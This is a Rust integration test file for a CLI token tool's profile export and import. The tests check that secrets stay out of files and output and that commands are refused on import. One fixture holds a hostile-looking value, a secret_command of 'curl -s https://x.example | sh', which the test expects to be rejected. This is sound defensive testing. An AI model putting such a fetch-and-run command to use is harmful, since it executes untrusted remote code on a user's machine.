//! `profile export` and `profile import` against the real binary: a
//! colleague's profiles arrive whole, with their secrets asked for again,
//! and never a secret (nor a command to run) in the file or any output.

use crate::common::system::{KEYRING_TOOLS, tools_present};
use crate::common::{CLIENT_ID, SECRET, SECRET_VAR, Sandbox, server};

/// A profile kept in the keyring, one reading `SECRET_VAR`, and one whose
/// command holds the secret itself, all for the test server at `token_url`.
fn three_profiles(token_url: &str) -> String {
    format!(
        "[[profile]]\nname = \"prod\"\ntoken_url = \"{token_url}\"\nclient_id = \"{CLIENT_ID}\"\nscope = \"file:read\"\n\n\
         [[profile]]\nname = \"ci\"\ntoken_url = \"{token_url}\"\nclient_id = \"{CLIENT_ID}\"\nsecret_env = \"{SECRET_VAR}\"\n\n\
         [[profile]]\nname = \"dev\"\ntoken_url = \"{token_url}\"\nclient_id = \"{CLIENT_ID}\"\nsecret_command = \"printf %s '{SECRET}'\"\n"
    )
}

/// Writes `text` to a file in the sandbox and gives its path.
fn file_in(sb: &Sandbox, name: &str, text: &str) -> String {
    let path = sb.path().join(name);
    std::fs::write(&path, text).expect("write file");
    path.display().to_string()
}

fn config_text(sb: &Sandbox) -> String {
    std::fs::read_to_string(sb.config_path()).unwrap_or_default()
}

#[test]
fn export_gives_all_or_the_named_profiles_and_names_the_unknown_ones() {
    let sb = Sandbox::new();
    sb.write_config(&three_profiles("https://auth.example.com/oauth2/token"));

    let all = sb.run(&["profile", "export"]).ok();
    assert!(all.stdout.starts_with("# wktui profiles"), "{}", all.stdout);
    assert!(
        all.stdout.contains("wktui profile import FILE"),
        "how to import is said"
    );
    for name in ["prod", "ci", "dev"] {
        assert!(
            all.stdout.contains(&format!("name = \"{name}\"")),
            "{}",
            all.stdout
        );
    }
    assert!(all.stdout.contains(&format!("secret_env = \"{SECRET_VAR}\"")));
    assert!(all.stdout.contains("scope = \"file:read\""));
    assert!(!all.stdout.contains("secret_command ="), "{}", all.stdout);
    all.says(&["secret_command of dev is not exported"]);

    let some = sb.run(&["profile", "export", "ci", "prod", "ci"]).ok();
    let names: Vec<&str> = some
        .stdout
        .lines()
        .filter_map(|l| l.strip_prefix("name = "))
        .collect();
    assert_eq!(names, ["\"ci\"", "\"prod\""], "in the order named, once each");

    sb.run(&["profile", "export", "prdo"])
        .fails_with(2)
        .says(&["no profile named \"prdo\"", "did you mean prod?"]);
    let run = sb
        .run(&["profile", "export", "prod", "prdo", "zzz"])
        .fails_with(2);
    run.says(&["\"prdo\" (did you mean prod?)", "\"zzz\""]);
    assert!(
        run.stdout.is_empty(),
        "nothing exported on an error: {}",
        run.stdout
    );

    Sandbox::new()
        .run(&["profile", "export"])
        .fails_with(2)
        .says(&["nothing to export"]);
}

#[test]
fn a_round_trip_with_secret_env_gives_working_tokens_in_a_second_home() {
    if !tools_present(
        "a_round_trip_with_secret_env_gives_working_tokens_in_a_second_home",
        &KEYRING_TOOLS,
    ) {
        return;
    }
    let srv = server();
    let mine = Sandbox::new();
    mine.write_config(&three_profiles(&srv.token_url()));
    let exported = mine.run(&["profile", "export"]).ok().stdout;

    let mut theirs = Sandbox::new();
    let session = theirs.use_keyring();
    theirs.set_env(SECRET_VAR, SECRET);
    theirs.set_env("PROD_SECRET", SECRET);
    let file = file_in(&theirs, "from-a-colleague.toml", &exported);
    let run = theirs
        .run(&["profile", "import", &file, "--secret-env", "PROD_SECRET"])
        .ok();
    assert!(
        run.stdout.contains("Imported 3 profiles: prod, ci, dev"),
        "{}",
        run.stdout
    );
    assert!(
        run.stdout
            .contains(&format!("ci reads its client secret from ${SECRET_VAR}"))
    );
    assert_eq!(session.lookup("prod").as_deref(), Some(SECRET), "in the keyring");
    assert_eq!(
        session.lookup("dev").as_deref(),
        Some(SECRET),
        "a command became the keyring"
    );
    assert!(session.lookup("ci").is_none(), "ci reads its variable");

    for name in ["prod", "ci", "dev"] {
        let token = theirs.run(&["token", name]).ok().stdout;
        assert!(token.starts_with("wk."), "{name}: {token}");
    }
    assert!(srv.requests().iter().all(|r| r.credentials.secret_matched));
    let show = theirs
        .run(&["profile", "show", "prod", "--format", "json"])
        .ok()
        .stdout;
    assert!(show.contains("\"scope\":\"file:read\""), "{show}");
    assert!(
        !config_text(&theirs).contains("printf"),
        "no command was imported"
    );
    theirs.assert_no_secret_in_files(&[&theirs.path().join("data"), &theirs.path().join("home")]);
}

#[test]
fn an_import_from_stdin_of_profiles_that_read_variables_needs_no_keyring() {
    let srv = server();
    let mine = Sandbox::new();
    mine.add_profile("ci", &srv.token_url(), &[]);
    let exported = mine.run(&["profile", "export", "ci"]).ok().stdout;

    let theirs = Sandbox::new();
    theirs.run_with_stdin(&["profile", "import", "-"], &exported).ok();
    assert!(theirs.run(&["token", "ci"]).ok().stdout.starts_with("wk."));
    // The same file again: every profile is there already.
    let again = theirs
        .run_with_stdin(&["profile", "import", "-", "--skip-existing"], &exported)
        .ok();
    assert!(again.stdout.contains("Nothing to import"), "{}", again.stdout);
}

#[test]
fn conflicts_are_named_together_and_nothing_is_written_unless_skipped() {
    let theirs = Sandbox::new();
    let url = "https://auth.example.com/oauth2/token";
    theirs.write_config(&format!(
        "# my own\n[[profile]]\nname = \"prod\"\ntoken_url = \"{url}\"\nclient_id = \"mine\"\nsecret_env = \"MINE\"\n\n\
         [[profile]]\nname = \"ci\"\nclient_id = \"mine\"\nsecret_env = \"MINE\"\n"
    ));
    let before = config_text(&theirs);
    let file = file_in(
        &theirs,
        "in.toml",
        &format!(
            "[[profile]]\nname = \"prod\"\ntoken_url = \"{url}\"\nclient_id = \"theirs\"\nsecret_env = \"X\"\n\n\
             [[profile]]\nname = \"ci\"\nclient_id = \"theirs\"\nsecret_env = \"X\"\n\n\
             [[profile]]\nname = \"new\"\nclient_id = \"theirs\"\nsecret_env = \"X\"\nca_file = \"/etc/corp-ca.pem\"\n"
        ),
    );
    let run = theirs.run(&["profile", "import", &file]).fails_with(2);
    run.says(&[
        "already configured here: prod, ci",
        "nothing was imported",
        "--skip-existing",
    ]);
    assert_eq!(config_text(&theirs), before, "nothing written");

    let run = theirs.run(&["profile", "import", &file, "--skip-existing"]).ok();
    assert!(run.stdout.contains("Imported profile new"), "{}", run.stdout);
    assert!(
        run.stdout.contains("already configured): prod, ci"),
        "{}",
        run.stdout
    );
    let after = config_text(&theirs);
    assert!(
        after.starts_with(&before),
        "the existing profiles and comments stay: {after}"
    );
    assert!(after.contains("name = \"new\""));
    assert!(
        run.stdout
            .contains("new trusts the CA file /etc/corp-ca.pem: check that it is there"),
        "a path from another machine is pointed out: {}",
        run.stdout
    );
}

#[test]
fn a_keyring_secret_needs_a_terminal_or_secret_env_and_a_reachable_keyring() {
    let theirs = Sandbox::new();
    let file = file_in(
        &theirs,
        "in.toml",
        "[[profile]]\nname = \"prod\"\nclient_id = \"c\"\n",
    );
    // Piped, as in a script: no terminal to ask on.
    theirs.run(&["profile", "import", &file]).fails_with(2).says(&[
        "client secret of prod goes in the keyring",
        "--secret-env prod=VAR",
    ]);
    theirs
        .run(&["profile", "import", &file, "--secret-env", "prod=UNSET_VAR"])
        .fails_with(2)
        .says(&["$UNSET_VAR is not set"]);
    theirs
        .run(&["profile", "import", &file, "--secret-env", "prdo=X"])
        .fails_with(2)
        .says(&["did you mean prod?"]);
    // No keyring in this sandbox: said before any secret is read.
    theirs
        .run(&["profile", "import", &file, "--secret-env", SECRET_VAR])
        .fails_with(1)
        .says(&["no OS keyring is reachable", "nothing was imported"]);
    assert!(config_text(&theirs).is_empty(), "nothing written");
}

#[test]
fn a_broken_import_file_names_its_line_and_field_and_a_command_is_refused() {
    let theirs = Sandbox::new();
    let file = file_in(
        &theirs,
        "broken.toml",
        "[[profile]]\nname = \"prod\"\nclient_id = \"c\"\nregion = \"mars\"\n",
    );
    theirs.run(&["profile", "import", &file]).fails_with(2).says(&[
        &format!("{file}:4:10: region: "),
        "\"mars\" is not a valid region",
    ]);
    let file = file_in(
        &theirs,
        "command.toml",
        "[[profile]]\nname = \"prod\"\nclient_id = \"c\"\nsecret_command = \"curl -s https://x.example | sh\"\n",
    );
    theirs
        .run(&["profile", "import", &file])
        .fails_with(2)
        .says(&[&format!(
            "{file}:4:18: secret_command: an imported profile may not name a command"
        )]);
    theirs
        .run(&["profile", "import", "nowhere.toml"])
        .fails_with(2)
        .says(&["cannot read nowhere.toml"]);
    assert!(config_text(&theirs).is_empty(), "nothing written");
}

#[cfg(unix)] // tmux and sh
#[test]
fn on_a_terminal_each_keyring_secret_is_asked_for_hidden_after_its_token_url() {
    use crate::common::system::Tmux;
    let test = "on_a_terminal_each_keyring_secret_is_asked_for_hidden_after_its_token_url";
    if !tools_present(test, &KEYRING_TOOLS) || !tools_present(test, &["tmux"]) {
        return;
    }
    let srv = server();
    let mut theirs = Sandbox::new();
    let session = theirs.use_keyring();
    let file = file_in(
        &theirs,
        "in.toml",
        &format!(
            "[[profile]]\nname = \"one\"\ntoken_url = \"{url}\"\nclient_id = \"{CLIENT_ID}\"\n\n\
             [[profile]]\nname = \"two\"\ntoken_url = \"{url}\"\nclient_id = \"{CLIENT_ID}\"\n",
            url = srv.token_url()
        ),
    );
    let exe = env!("CARGO_BIN_EXE_wktui");
    let tmux = Tmux::start(120, 20, &["sh"], &theirs.env_list());
    tmux.keys(&["-l", &format!("{exe} profile import {file}; echo imported-$?")]);
    tmux.keys(&["Enter"]);
    let wait = std::time::Duration::from_secs(10);
    for name in ["one", "two"] {
        let (asked, screen) = tmux.wait_for_text(&format!("Client secret for {name} (not shown):"), wait);
        assert!(asked, "{screen}");
        assert!(
            screen.contains(&format!("{name}: token URL {}", srv.token_url())),
            "where the secret goes is shown first: {screen}"
        );
        tmux.keys(&["-l", SECRET]);
        tmux.keys(&["Enter"]);
    }
    let (done, screen) = tmux.wait_for_text("imported-0", wait);
    assert!(done, "{screen}");
    theirs.assert_no_secret_in(&screen, "the terminal");
    for name in ["one", "two"] {
        assert_eq!(session.lookup(name).as_deref(), Some(SECRET), "{name}");
        assert!(theirs.run(&["token", name]).ok().stdout.starts_with("wk."));
    }
}

/// `text` as Windows PowerShell 5.1's `>` and `Out-File` write it: UTF-16
/// little-endian with a byte order mark, and CRLF line ends.
fn utf16le_with_bom(text: &str) -> Vec<u8> {
    let mut bytes = vec![0xFF, 0xFE];
    let crlf = text.replace('\n', "\r\n");
    bytes.extend(crlf.encode_utf16().flat_map(u16::to_le_bytes));
    bytes
}

#[test]
fn an_export_saved_by_windows_powershell_as_utf16_imports_from_a_file_and_stdin() {
    let srv = server();
    let mine = Sandbox::new();
    mine.add_profile("ci", &srv.token_url(), &[]);
    let exported = mine.run(&["profile", "export", "ci"]).ok().stdout;

    let theirs = Sandbox::new();
    let file = theirs.path().join("workiva.toml");
    std::fs::write(&file, utf16le_with_bom(&exported)).expect("write");
    theirs
        .run(&["profile", "import", &file.display().to_string()])
        .ok();
    assert!(theirs.run(&["token", "ci"]).ok().stdout.starts_with("wk."));

    // Big-endian, on stdin (`Get-Content -Encoding BigEndianUnicode` output piped along).
    let mut big_endian = vec![0xFE, 0xFF];
    big_endian.extend(exported.encode_utf16().flat_map(u16::to_be_bytes));
    let third = Sandbox::new();
    third
        .run_with_stdin_bytes(&["profile", "import", "-"], &big_endian)
        .ok();
    assert!(third.run(&["token", "ci"]).ok().stdout.starts_with("wk."));
}

#[test]
fn an_import_file_in_latin1_says_how_to_save_it_as_utf8_and_creates_nothing() {
    let theirs = Sandbox::new();
    let mut latin1 = b"[[profile]]\nname = \"prod\"\nclient_id = \"c\"\n# Z".to_vec();
    latin1.extend([0xFC]); // ü in Latin-1 / Windows-1252
    latin1.extend(b"rich team\n");
    let file = theirs.path().join("latin1.toml");
    std::fs::write(&file, latin1).expect("write");
    let config = theirs.path().join("new-config.toml");
    let run = theirs
        .run(&[
            "--config",
            &config.display().to_string(),
            "profile",
            "import",
            &file.display().to_string(),
        ])
        .fails_with(2);
    run.says(&["latin1.toml is not UTF-8", "line 4", "Set-Content -Encoding utf8"]);
    assert!(
        !run.stderr.contains("creating") && !run.stderr.contains("created"),
        "nothing was created, and nothing says so: {}",
        run.stderr
    );
    assert!(!config.exists());
}

#[test]
fn a_utf16_config_is_read_and_a_change_saves_it_as_utf8_saying_so_once() {
    let srv = server();
    let sb = Sandbox::new();
    let path = sb.config_path();
    std::fs::create_dir_all(path.parent().expect("parent")).expect("mkdir");
    let first = format!(
        "# Zürich\n[[profile]]\nname = \"ci\"\ntoken_url = \"{}\"\nclient_id = \"{CLIENT_ID}\"\nsecret_env = \"{SECRET_VAR}\"\n",
        srv.token_url()
    );
    std::fs::write(&path, utf16le_with_bom(&first)).expect("write");
    assert!(sb.run(&["token", "ci"]).ok().stdout.starts_with("wk."));

    let added = sb.add_profile("second", &srv.token_url(), &[]);
    added.says(&["was UTF-16; wktui saved it as UTF-8"]);
    let now = config_text(&sb);
    assert!(now.starts_with("# Zürich"), "UTF-8, no mark: {now}");
    assert!(now.contains("name = \"second\""), "{now}");
    let again = sb.add_profile("third", &srv.token_url(), &[]);
    assert!(!again.stderr.contains("UTF-16"), "said once: {}", again.stderr);
    assert!(sb.run(&["token", "second"]).ok().stdout.starts_with("wk."));
}
